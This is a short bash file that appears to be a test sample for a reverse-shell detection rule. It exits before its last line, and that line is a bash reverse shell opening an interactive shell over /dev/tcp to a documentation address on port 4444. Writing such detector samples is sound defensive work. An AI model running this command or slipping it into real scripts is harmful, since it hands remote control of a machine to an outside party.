#!/bin/bash
# Test sample for RAMPART_ReverseShell_Bash_DevTcp: inert, it exits first; 192.0.2.10 is a documentation address.
exit 0
bash -i >& /dev/tcp/192.0.2.10/4444 0>&1
